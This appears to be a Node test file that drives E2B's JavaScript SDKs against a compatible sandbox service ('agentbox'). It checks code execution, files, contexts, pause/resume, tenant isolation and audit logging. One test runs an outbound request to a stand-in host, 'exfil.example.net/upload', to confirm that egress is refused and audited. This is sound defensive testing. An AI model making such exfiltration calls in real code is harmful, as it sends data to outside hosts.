// The E2B test program: E2B's official JavaScript SDKs (e2b, @e2b/code-interpreter, pinned in
// scripts/e2b-tools), unmodified, against agentbox. TestE2BSDK (internal/daemon/e2b_sdk_test.go)
// runs it with Node 22 under `node --test`, with E2B_DOMAIN and E2B_API_KEY pointed at a daemon it
// started, a resolver (dnsmasq) that answers *.E2B_DOMAIN with the daemon's address, and a test CA
// the SDK trusts (NODE_EXTRA_CA_CERTS). Nothing here knows it is not talking to E2B, except the
// refused egress request's audit record, which is read from agentbox's own API.
'use strict'
const { test } = require('node:test')
const assert = require('node:assert/strict')
const { Sandbox } = require('@e2b/code-interpreter')
const Base = require('e2b')

const otherKey = process.env.E2B_OTHER_TENANT_KEY // a key of another tenant
const agentbox = process.env.AGENTBOX_URL // agentbox's own API, for the audit log
let sbx

test('create a code interpreter sandbox (timeout, metadata, envs)', async () => {
  sbx = await Sandbox.create({ timeoutMs: 600_000, metadata: { suite: 'e2b-sdk', run: process.pid.toString() }, envs: { GREETING: 'hello from envs' } })
  assert.match(sbx.sandboxId, /^sb[a-z0-9-]+$/)
  const info = await sbx.getInfo()
  assert.equal(info.sandboxId, sbx.sandboxId)
  assert.equal(info.templateId, 'code-interpreter-v1')
  assert.equal(info.state, 'running')
  assert.equal(info.metadata.suite, 'e2b-sdk')
  assert.ok(info.endAt.getTime() - info.startedAt.getTime() >= 590_000)
})

test('list finds it by metadata, page by page', async () => {
  const found = []
  const pages = Sandbox.list({ query: { metadata: { suite: 'e2b-sdk', run: process.pid.toString() }, state: ['running', 'paused'] }, limit: 1 })
  while (pages.hasNext) {
    found.push(...(await pages.nextItems()))
  }
  assert.deepEqual(found.map((s) => s.sandboxId), [sbx.sandboxId])
  const none = await Sandbox.list({ query: { metadata: { suite: 'no-such-suite' } } }).nextItems()
  assert.equal(none.length, 0)
})

test('run code: a pandas DataFrame and a matplotlib chart (PNG and chart data as a result)', async () => {
  const ex = await sbx.runCode(`
import pandas as pd
import matplotlib.pyplot as plt
df = pd.DataFrame({"x": [1, 2, 3], "y": [2, 4, 9]})
print(df["y"].sum())
plt.plot(df["x"], df["y"], label="y")
plt.title("y by x")
plt.xlabel("x (m)")
plt.show()
df
`)
  assert.equal(ex.error, undefined, ex.error && `${ex.error.name}: ${ex.error.value}\n${ex.error.traceback}`)
  assert.equal(ex.logs.stdout.join('').trim(), '15')
  const png = ex.results.find((r) => r.png)
  assert.ok(png, `no PNG among the results: ${JSON.stringify(ex.results.map((r) => r.formats()))}`)
  assert.equal(Buffer.from(png.png, 'base64').subarray(1, 4).toString(), 'PNG')
  // What the figure shows, as the SDK types it (LineChart).
  assert.ok(png.chart, `no chart: ${JSON.stringify(png.formats())}`)
  assert.equal(png.chart.type, 'line')
  assert.equal(png.chart.title, 'y by x')
  assert.equal(png.chart.x_label, 'x (m)')
  assert.equal(png.chart.x_unit, 'm')
  assert.equal(png.chart.x_scale, 'linear')
  assert.ok(png.chart.x_ticks.length > 0 && png.chart.x_ticks.length === png.chart.x_tick_labels.length)
  assert.deepEqual(png.chart.elements, [{ label: 'y', points: [[1, 2], [2, 4], [3, 9]] }])
  const table = ex.results.find((r) => r.isMainResult)
  assert.ok(table && (table.html || table.text), 'the DataFrame is the main result')
  assert.match(table.html || table.text, /9/)
})

test('bash cells keep their state; a non-zero exit is the error; a timeout stops the cell, not the shell', async () => {
  const first = await sbx.runCode('cd /tmp; X=1; greet() { echo "hi $1"; }', { language: 'bash' })
  assert.equal(first.error, undefined)
  const next = await sbx.runCode('pwd; echo $X; greet there; echo "$GREETING"', { language: 'bash' })
  assert.equal(next.error, undefined)
  assert.equal(next.logs.stdout.join(''), '/tmp\n1\nhi there\nhello from envs\n')
  const failed = await sbx.runCode('echo before; false', { language: 'bash' })
  assert.equal(failed.logs.stdout.join(''), 'before\n')
  assert.ok(failed.error, 'a non-zero exit is the cell\'s error')
  assert.equal(failed.error.value, '1')
  await assert.rejects(sbx.runCode('sleep 60', { language: 'bash', timeoutMs: 1500 }))
  const after = await sbx.runCode('echo $X; pwd', { language: 'bash' })
  assert.equal(after.logs.stdout.join(''), '1\n/tmp\n')
  const ctx = await sbx.createCodeContext({ language: 'bash', cwd: '/home/user' })
  await sbx.runCode('Y=2; cd /var', { context: ctx })
  const inCtx = await sbx.runCode('echo ${X:-unset} $Y; pwd', { context: ctx })
  assert.equal(inCtx.logs.stdout.join(''), 'unset 2\n/var\n')
})

test('an exception comes back with name, value and traceback', async () => {
  const ex = await sbx.runCode('1/0')
  assert.equal(ex.error.name, 'ZeroDivisionError')
  assert.match(ex.error.value, /division by zero/)
  assert.match(ex.error.traceback, /ZeroDivisionError/)
})

test('stdout of a loop is streamed as it is printed', async () => {
  const chunks = []
  const start = Date.now()
  const ex = await sbx.runCode('import time\nfor i in range(4):\n    print(i, flush=True)\n    time.sleep(0.4)', {
    onStdout: (m) => chunks.push({ line: m.line, at: Date.now() - start }),
  })
  assert.equal(chunks.map((c) => c.line).join('').replace(/\s+/g, ''), '0123')
  assert.ok(chunks.length >= 2, `one chunk only: ${JSON.stringify(chunks)}`)
  assert.ok(chunks[0].at < chunks[chunks.length - 1].at - 500, `not streamed: ${JSON.stringify(chunks)}`)
  assert.equal(ex.logs.stdout.join('').replace(/\s+/g, ''), '0123')
})

test('run a command (with the sandbox envs)', async () => {
  const r = await sbx.commands.run('echo "$GREETING"; echo out; echo err >&2')
  assert.equal(r.exitCode, 0)
  assert.equal(r.stdout, 'hello from envs\nout\n')
  assert.equal(r.stderr, 'err\n')
  await assert.rejects(sbx.commands.run('exit 3'), (e) => e.exitCode === 3)
})

test('write and read files', async () => {
  await sbx.files.write('/tmp/e2b-test/hello.txt', 'hello, file')
  assert.equal(await sbx.files.read('/tmp/e2b-test/hello.txt'), 'hello, file')
  const entries = await sbx.files.list('/tmp/e2b-test')
  assert.deepEqual(entries.map((e) => e.name), ['hello.txt'])
  const ex = await sbx.runCode('print(open("/tmp/e2b-test/hello.txt").read())')
  assert.equal(ex.logs.stdout.join('').trim(), 'hello, file')
})

test('a code context has its own variables and cwd, and the sandbox\'s files', async () => {
  await sbx.runCode('shared_name = 7\nopen("/home/user/from-default.txt", "w").write("written by the default context")')
  const ctx = await sbx.createCodeContext({ cwd: '/home/user/ctx' })
  const r = await sbx.runCode('import os\n(os.getcwd(), open("../from-default.txt").read())', { context: ctx })
  assert.equal(r.text, "('/home/user/ctx', 'written by the default context')")
  assert.equal((await sbx.runCode('shared_name', { context: ctx })).error.name, 'NameError')
  await sbx.runCode('open("from-context.txt", "w").write("written by a context")', { context: ctx })
  assert.equal(await sbx.files.read('/home/user/ctx/from-context.txt'), 'written by a context')
  assert.equal((await sbx.commands.run('cat /home/user/ctx/from-context.txt')).stdout, 'written by a context')
  const d = await sbx.runCode('import os\n(shared_name, os.getcwd())')
  assert.equal(d.text, "(7, '/home/user')")
  await sbx.removeCodeContext(ctx)
})

test('pause and resume (connect) keep the state', async () => {
  await sbx.runCode('kept = 41 + 1')
  const ctx = await sbx.createCodeContext({ cwd: '/home/user/paused' })
  await sbx.runCode('kept_here = "in a context"', { context: ctx })
  assert.equal(await sbx.pause(), true)
  assert.equal((await sbx.getInfo()).state, 'paused')
  assert.equal(await sbx.pause(), false) // already paused: E2B's 409
  const again = await Sandbox.connect(sbx.sandboxId)
  assert.equal((await again.getInfo()).state, 'running')
  const ex = await again.runCode('print(kept)')
  assert.equal(ex.logs.stdout.join('').trim(), '42')
  const inCtx = await again.runCode('import os\n(kept_here, os.getcwd())', { context: ctx })
  assert.equal(inCtx.text, "('in a context', '/home/user/paused')")
  sbx = again
})

test('a refused egress request, and its audit record', async () => {
  const ex = await sbx.runCode(`
import urllib.request
try:
    urllib.request.urlopen("https://exfil.example.net/upload", timeout=20)
    print("reached")
except Exception as e:
    print("refused:", e)
`)
  const out = ex.logs.stdout.join('')
  assert.match(out, /refused/, out)
  const session = 'sb_' + sbx.sandboxId.slice(2)
  const res = await fetch(`${agentbox}/v1/audit?session=${session}&kind=egress&decision=deny`, {
    headers: { Authorization: `Bearer ${process.env.E2B_API_KEY}` },
  })
  assert.equal(res.status, 200)
  const body = await res.json()
  const records = body.records ?? body
  assert.ok(records.some((r) => JSON.stringify(r).includes('exfil.example.net')), JSON.stringify(body).slice(0, 2000))
})

test('the sandbox and its runs are in the audit log, under the key\'s tenant', async () => {
  const session = 'sb_' + sbx.sandboxId.slice(2)
  const get = async (kind) => {
    const res = await fetch(`${agentbox}/v1/audit?session=${session}&kind=${kind}`, {
      headers: { Authorization: `Bearer ${process.env.E2B_API_KEY}` },
    })
    assert.equal(res.status, 200)
    const body = await res.json()
    return body.records ?? body
  }
  const created = await get('session.create')
  assert.equal(created.length, 1, JSON.stringify(created))
  assert.equal(created[0].tenant, 'acme')
  const runs = await get('run')
  assert.ok(runs.length >= 5, `${runs.length} run records`)
  assert.ok(runs.every((r) => r.tenant === 'acme'))
})

test('calls agentbox does not serve are a typed not_implemented naming the call', async () => {
  await assert.rejects(sbx.getMetrics(), (e) => /not implemented/.test(e.message) && /getMetrics/.test(e.message))
  await assert.rejects(sbx.createSnapshot(), (e) => /not implemented/.test(e.message) && /createSnapshot/.test(e.message))
})

test('another tenant does not find the sandbox', async () => {
  await assert.rejects(Sandbox.connect(sbx.sandboxId, { apiKey: otherKey }), (e) => e.name === 'SandboxNotFoundError')
  await assert.rejects(Sandbox.getInfo(sbx.sandboxId, { apiKey: otherKey }), (e) => e.name === 'SandboxNotFoundError')
  assert.equal(await Sandbox.kill(sbx.sandboxId, { apiKey: otherKey }), false)
  const theirs = await Sandbox.list({ apiKey: otherKey }).nextItems()
  assert.ok(!theirs.some((s) => s.sandboxId === sbx.sandboxId))
})

test('setTimeout, then kill', async () => {
  await sbx.setTimeout(120_000)
  const info = await sbx.getInfo()
  assert.ok(info.endAt.getTime() - Date.now() <= 121_000)
  assert.equal(await sbx.isRunning(), true)
  assert.equal(await sbx.kill(), true)
  assert.equal(await sbx.isRunning(), false)
  assert.equal(await Sandbox.kill(sbx.sandboxId), false)
})

test('the e2b SDK: the base template, a command, a file', async () => {
  const b = await Base.Sandbox.create({ timeoutMs: 120_000 })
  try {
    const r = await b.commands.run('python3 -c "print(6*7)"')
    assert.equal(r.stdout.trim(), '42')
    await b.files.write('/tmp/base.txt', 'base')
    assert.equal(await b.files.read('/tmp/base.txt'), 'base')
  } finally {
    await b.kill()
  }
})
